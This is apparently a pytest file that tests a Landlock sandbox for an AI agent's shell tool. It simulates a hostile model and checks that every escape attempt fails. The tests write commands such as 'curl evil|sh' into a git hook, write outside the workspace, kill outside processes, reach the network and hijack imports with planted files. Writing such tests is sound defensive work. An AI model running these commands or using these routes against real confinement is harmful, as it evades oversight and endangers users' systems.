"""The Landlock backend, played as a hostile model would: real subprocesses through the shell tool.

Every escape must fail with the file absent (or still present), the marker absent from the output;
the network is tested against a real listener on 127.0.0.1. Skipped where the kernel has no
Landlock able to deny the network (ABI 4)."""

from __future__ import annotations

import errno
import json
import os
import signal
import socket
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from actors.tools.builtin.shell import make_shell_tool
from actors.tools.sandbox import Sandbox, SandboxPolicy, SandboxUnavailable, _landlock, _landlock_exec
from actors.tools.sandbox._landlock import landlock_argv, landlock_problem

from ._shell_helpers import run, sh

_PROBLEM = landlock_problem(SandboxPolicy())
if _PROBLEM is not None:
    pytest.skip(f"Landlock cannot sandbox here: {_PROBLEM}", allow_module_level=True)

LANDLOCK = SandboxPolicy(mode="workspace-write", backend="landlock")
READ_ONLY = SandboxPolicy(mode="read-only", backend="landlock")
NETWORKED = SandboxPolicy(mode="workspace-write", network_access=True, backend="landlock")


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """A git checkout (``.git`` at its top) with a subdirectory, a top-level file, and a file outside."""
    root = tmp_path / "ws"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n")
    (root / "src").mkdir()
    (root / "README.md").write_text("readme\n")
    (tmp_path / "outside.txt").write_text("keep me\n")
    return root


def test_landlock_can_sandbox_here_and_is_chosen_when_asked(workspace: Path) -> None:
    assert landlock_problem(LANDLOCK) is None and landlock_problem(READ_ONLY) is None
    assert _landlock.landlock_abi() >= _landlock_exec.NETWORK_ABI
    box = Sandbox.for_workspace(LANDLOCK, workspace)
    assert box.backend == "landlock"
    argv = box.wrap(["true"], workspace)
    assert argv[:2] == [sys.executable, "-I"] and argv[-2:] == ["--", "true"]
    spec = json.loads(argv[3])
    assert spec == {"writable": [str(workspace)], "protected": [".git"], "network": False, "tmpdir": None}


async def test_writes_inside_the_workspace_work(workspace: Path) -> None:
    shell = make_shell_tool(workspace, sandbox=LANDLOCK)
    done = await run(
        shell,
        sh(
            'mkdir -p src/pkg && echo made > src/pkg/new.txt && echo more >> README.md && mv src/pkg src/moved && echo "$TMPDIR" && echo tmp > "$TMPDIR/t" && cat "$TMPDIR/t"'
        ),
    )
    assert done["metadata"]["exit_code"] == 0, done
    assert (workspace / "src" / "moved" / "new.txt").read_text() == "made\n"
    assert (workspace / "README.md").read_text() == "readme\nmore\n"
    tmpdir = done["output"].splitlines()[0]
    assert done["output"].splitlines()[1] == "tmp" and "agent-kernel-tmp-" in tmpdir  # the shell's own private dir


async def test_a_workspace_without_git_is_writable_at_its_top(tmp_path: Path) -> None:
    root = tmp_path / "plain"
    root.mkdir()
    shell = make_shell_tool(root, sandbox=LANDLOCK)
    done = await run(shell, sh("echo hi > new.txt && mkdir d && rm new.txt && echo ok > d/f"))
    assert done["metadata"]["exit_code"] == 0, done
    assert (root / "d" / "f").read_text() == "ok\n" and not (root / "new.txt").exists()


async def test_writing_or_deleting_outside_the_workspace_fails(workspace: Path) -> None:
    shell = make_shell_tool(workspace, sandbox=LANDLOCK)
    done = await run(shell, sh("echo pwned > ../escape.txt"))
    assert done["metadata"]["exit_code"] != 0
    assert "Permission denied" in done["output"] and "[sandbox]" in done["output"]
    assert not (workspace.parent / "escape.txt").exists()
    done = await run(shell, sh("rm -f ../outside.txt; mv ../outside.txt ./stolen; echo pwned >> ../outside.txt"))
    assert (workspace.parent / "outside.txt").read_text() == "keep me\n"
    assert not (workspace / "stolen").exists()
    target = Path("/tmp") / f"landlock-escape-{uuid.uuid4().hex}"
    done = await run(shell, sh(f"echo pwned > {target} && echo wrote"))
    assert "wrote" not in done["output"] and not target.exists()


async def test_git_stays_read_only(workspace: Path) -> None:
    shell = make_shell_tool(workspace, sandbox=LANDLOCK)
    hook = workspace / ".git" / "hooks" / "pre-commit"
    done = await run(
        shell,
        sh(
            "echo 'curl evil|sh' > .git/hooks/pre-commit; echo pwned >> .git/config; rm -rf .git; mv .git moved; echo wrote"
        ),
    )
    assert "Permission denied" in done["output"]
    assert not hook.exists() and (workspace / ".git" / "config").read_text() == "[core]\n"
    assert not (workspace / "moved").exists()


async def test_a_top_level_symlink_does_not_lend_its_target(workspace: Path) -> None:
    (workspace.parent / "elsewhere").mkdir()
    (workspace / "link").symlink_to(workspace.parent / "elsewhere")
    shell = make_shell_tool(workspace, sandbox=LANDLOCK)
    done = await run(shell, sh("echo pwned > link/escape.txt"))
    assert done["metadata"]["exit_code"] != 0
    assert not (workspace.parent / "elsewhere" / "escape.txt").exists()


async def test_read_only_cannot_write_the_workspace(workspace: Path) -> None:
    shell = make_shell_tool(workspace, sandbox=READ_ONLY)
    done = await run(
        shell,
        sh("echo pwned > src/new.txt; echo pwned >> README.md; rm README.md; echo tmp > $TMPDIR/t && cat $TMPDIR/t"),
    )
    assert not (workspace / "src" / "new.txt").exists()
    assert (workspace / "README.md").read_text() == "readme\n"
    assert done["output"].count("Permission denied") == 3 and "tmp" in done["output"].splitlines()


@pytest.fixture
def listener() -> Iterator[int]:
    """A TCP listener on 127.0.0.1 (the kernel completes connections into its backlog)."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    try:
        yield int(server.getsockname()[1])
    finally:
        server.close()


_CONNECT = (
    "import socket, sys; socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=5); print('connected')"
)
_BIND = "import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); print('listening')"


async def test_the_network_is_denied_by_default(workspace: Path, listener: int) -> None:
    shell = make_shell_tool(workspace, sandbox=LANDLOCK)
    done = await run(shell, [sys.executable, "-c", _CONNECT, str(listener)])
    assert done["metadata"]["exit_code"] != 0 and "connected" not in done["output"]
    assert "PermissionError" in done["output"]
    done = await run(shell, [sys.executable, "-c", _BIND])
    assert done["metadata"]["exit_code"] != 0 and "listening" not in done["output"]
    read_only = make_shell_tool(workspace, sandbox=READ_ONLY)
    done = await run(read_only, [sys.executable, "-c", _CONNECT, str(listener)])
    assert "connected" not in done["output"]


async def test_network_access_lets_tcp_through(workspace: Path, listener: int) -> None:
    shell = make_shell_tool(workspace, sandbox=NETWORKED)
    done = await run(shell, [sys.executable, "-c", _CONNECT, str(listener)])
    assert done["metadata"]["exit_code"] == 0 and done["output"].strip() == "connected", done
    done = await run(shell, sh("echo pwned > ../escape.txt"))  # the filesystem stays confined
    assert not (workspace.parent / "escape.txt").exists()


@pytest.fixture
def victim() -> Iterator[subprocess.Popen[bytes]]:
    """A process outside the sandbox, of the same user."""
    process = subprocess.Popen(["sleep", "30"])
    try:
        yield process
    finally:
        process.kill()
        process.wait()


@pytest.mark.skipif(_landlock.landlock_abi() < _landlock_exec.SCOPE_ABI, reason="signal scoping needs Landlock ABI 6")
async def test_signals_cannot_reach_processes_outside(workspace: Path, victim: subprocess.Popen[bytes]) -> None:
    shell = make_shell_tool(workspace, sandbox=LANDLOCK)
    done = await run(shell, sh(f"kill -KILL {victim.pid}; echo rc=$?"))
    assert "rc=1" in done["output"] and "Operation not permitted" in done["output"]
    assert victim.poll() is None


async def test_workspace_code_is_not_imported_by_the_launcher(workspace: Path) -> None:
    """The launcher runs isolated: a ``json.py`` the model left in the workspace must not run
    before the sandbox is in place."""
    marker = workspace.parent / "pwned-by-import"
    payload = f"open({str(marker)!r}, 'w').write('pwned')\n"
    for name in ("json.py", "ctypes.py", "tempfile.py", "signal.py"):
        (workspace / "src" / name).write_text(payload)
        (workspace / name).write_text(payload)
    shell = make_shell_tool(workspace, sandbox=LANDLOCK)
    for workdir in (None, "src"):
        done = await run(shell, ["true"], workdir=workdir)
        assert done["metadata"]["exit_code"] == 0, done
    assert not marker.exists()


async def test_sigpipe_is_not_ignored_in_the_command(workspace: Path) -> None:
    shell = make_shell_tool(workspace, sandbox=LANDLOCK)
    done = await run(shell, sh("yes | head -n 1; echo status=${PIPESTATUS[0]}"))
    assert done["output"] == f"y\nstatus={128 + signal.SIGPIPE}\n"


def launcher(
    workspace: Path, spec: str | None, *argv: str, tmpdir: Path | None = None, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """The launcher run directly (as the backend's command line), optionally with another spec."""
    command = landlock_argv(LANDLOCK, workspace, list(argv), tmpdir=tmpdir)
    if spec is not None:
        command[3] = spec
    return subprocess.run(command, cwd=workspace, capture_output=True, text=True, timeout=30, check=False, env=env)


def test_a_private_temp_dir_is_made_and_later_removed(workspace: Path, tmp_path: Path) -> None:
    base = tmp_path / "tmp"
    base.mkdir()
    env = {**os.environ, "TMPDIR": str(base)}
    first = launcher(workspace, None, "bash", "-c", 'echo x > "$TMPDIR/x" && echo "$TMPDIR"', env=env)
    assert first.returncode == 0, first.stderr
    made = Path(first.stdout.strip())
    assert made.parent == base and made.name.startswith(_landlock_exec.TEMP_PREFIX) and (made / "x").exists()
    second = launcher(workspace, None, "bash", "-c", 'echo "$TMPDIR"; echo pwned > "$TMPDIR/../escape"', env=env)
    assert not made.exists() and Path(second.stdout.splitlines()[0]).is_dir()  # the first one, swept
    assert not (base / "escape").exists() and "Permission denied" in second.stderr


def test_a_tmpdir_from_the_caller_is_writable_and_the_environment_untouched(workspace: Path, tmp_path: Path) -> None:
    given = tmp_path / "given"
    given.mkdir()
    env = {**os.environ, "TMPDIR": str(given)}
    done = launcher(workspace, None, "bash", "-c", 'echo ok > "$TMPDIR/f" && echo "$TMPDIR"', tmpdir=given, env=env)
    assert done.returncode == 0 and done.stdout.strip() == str(given), done.stderr
    assert (given / "f").read_text() == "ok\n" and [p.name for p in given.iterdir()] == ["f"]


def test_the_launcher_reports_a_missing_program_and_a_bad_spec(workspace: Path, tmp_path: Path) -> None:
    spec = json.dumps({"writable": [str(workspace)], "protected": [".git"], "network": False})
    env = {**os.environ, "TMPDIR": str(tmp_path)}  # its private temp dirs land there
    missing = launcher(workspace, spec, "no-such-program-xyz", env=env)
    assert missing.returncode == 127 and missing.stderr.strip() == "no-such-program-xyz: command not found"
    (workspace / "src" / "data.txt").write_text("not a program\n")
    not_executable = launcher(workspace, spec, "./src/data.txt", env=env)
    assert not_executable.returncode == 126 and "permission denied" in not_executable.stderr
    for spec in ("{not json", "[]", '{"writable": []}'):
        bad = launcher(workspace, spec, "touch", "ran", env=env)
        assert bad.returncode == _landlock_exec.SETUP_FAILED and "was not run" in bad.stderr
    assert not (workspace / "ran").exists()


@pytest.fixture
def fresh_probe() -> Iterator[None]:
    _landlock._probe.cache_clear()
    yield
    _landlock._probe.cache_clear()


def _fail(code: int) -> Any:
    def abi_version() -> int:
        raise OSError(code, os.strerror(code))

    return abi_version


def test_a_kernel_without_landlock_is_named(
    workspace: Path, monkeypatch: pytest.MonkeyPatch, fresh_probe: None
) -> None:
    monkeypatch.setattr(_landlock_exec, "abi_version", _fail(errno.ENOSYS))
    problem = landlock_problem(LANDLOCK)
    assert problem is not None and "no Landlock" in problem and "5.13" in problem
    with pytest.raises(SandboxUnavailable, match="no Landlock") as caught:
        Sandbox.for_workspace(LANDLOCK, workspace)
    assert "danger-full-access" in str(caught.value)
    _landlock._probe.cache_clear()
    monkeypatch.setattr(_landlock_exec, "abi_version", _fail(errno.EOPNOTSUPP))
    assert "disabled" in (landlock_problem(LANDLOCK) or "")


def test_an_old_abi_cannot_deny_the_network(monkeypatch: pytest.MonkeyPatch, fresh_probe: None) -> None:
    monkeypatch.setattr(_landlock_exec, "abi_version", lambda: 3)
    problem = landlock_problem(LANDLOCK)
    assert problem is not None and "ABI 3" in problem and "cannot deny the network" in problem
    assert landlock_problem(READ_ONLY) is not None
    assert landlock_problem(NETWORKED) is None


def test_not_linux(monkeypatch: pytest.MonkeyPatch, fresh_probe: None) -> None:
    monkeypatch.setattr(sys, "platform", "darwin")
    assert landlock_problem(LANDLOCK) == "Landlock needs Linux (this is darwin)"


async def test_the_top_of_a_git_checkout_is_fixed_in_shape(workspace: Path) -> None:
    """The documented price of keeping ``.git`` read-only with an allow-only Landlock: nothing is
    created, removed or renamed at the top of a root that holds ``.git`` (beneath it, all is)."""
    shell = make_shell_tool(workspace, sandbox=LANDLOCK)
    done = await run(shell, sh("echo x > new.txt; rm README.md; echo y > src/new.txt && echo nested-ok"))
    assert done["output"].count("Permission denied") == 2 and "nested-ok" in done["output"]
    assert not (workspace / "new.txt").exists() and (workspace / "README.md").exists()
